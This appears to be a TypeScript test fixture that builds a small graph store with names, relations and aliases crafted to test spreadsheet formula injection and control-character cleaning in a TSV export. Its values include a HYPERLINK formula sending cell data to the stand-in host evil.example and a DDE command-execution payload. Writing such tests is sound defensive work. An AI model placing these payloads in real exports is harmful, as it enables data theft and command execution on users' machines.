/**
 * A small store whose names, aliases, relations and sentences begin with what a spreadsheet runs as
 * a formula (`=HYPERLINK(...)`, `+1`, `-2+3`, `@SUM`, a tab, a carriage return) or carry NUL and
 * other control characters, laid out at negative positions; its document holds the triples, so the
 * TSV export has lines too.
 */
import type { StoreContents } from '../../src/graph/store.js';
import type { Mention, NodeAttributes, Triple } from '../../src/types.js';
import { handBuiltStore } from './hand-built.js';

export const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")';
export const FORMULA_NAMES = [HYPERLINK, '+1 Army Group', '-2+3 Brigade', '@SUM(A1:A9) Holdings', '\tTabbed Front', '\rReturned Council'];
/** NUL and other C0 bytes inside the text, and one leading so that only cleaning shows the `=` behind it. */
export const CONTROL_NAME = 'Mullah\u0000 Baradar\u0001\u001b[31m\u007f';
export const HIDDEN_FORMULA = '\u0000=1+1 Committee';

export function formulaStore(): StoreContents {
  const [hyperlink, plusOne, minus, sum, tab, ret] = FORMULA_NAMES as [string, string, string, string, string, string];
  const edges = [
    { from: hyperlink, relation: 'met', to: 'Ashraf Ghani' },
    { from: plusOne, relation: '=cmd|\' /C calc\'!A0', to: minus },
    { from: sum, relation: 'wrote to', to: tab },
    { from: ret, relation: 'thanked', to: CONTROL_NAME },
    { from: HIDDEN_FORMULA, relation: '-warned', to: 'Ashraf Ghani' },
  ];
  const store = handBuiltStore(edges, [{ name: 'Ashraf Ghani', aliases: ['@ghani', '+93 President'] }]);
  // laid out as a build would, left of and below the origin: `-3.5` is a position, not a formula
  store.graph.nodes.forEach((node, i) => Object.assign(node.attributes as NodeAttributes, { x: -3.5 - i, y: -1.25 - i, size: 2 + i, color: '#0072b2' }));
  const document = store.documents[0]!;
  document.triples = edges.map((edge, i): Triple => {
    const sentence = document.sentences[i]!;
    const mention = (text: string): Mention => ({ text, name: text, start: sentence.start, end: sentence.end, nameSpan: sentence, type: 'person', typeSource: 'fallback' });
    return {
      sentence: i, subject: mention(edge.from), relation: edge.relation, lemma: edge.relation, object: mention(edge.to),
      span: { start: sentence.start, end: sentence.end }, flags: { negated: false, hedged: false, tense: 'past' }, construction: 'active', confidence: 0.9,
    };
  });
  return store;
}
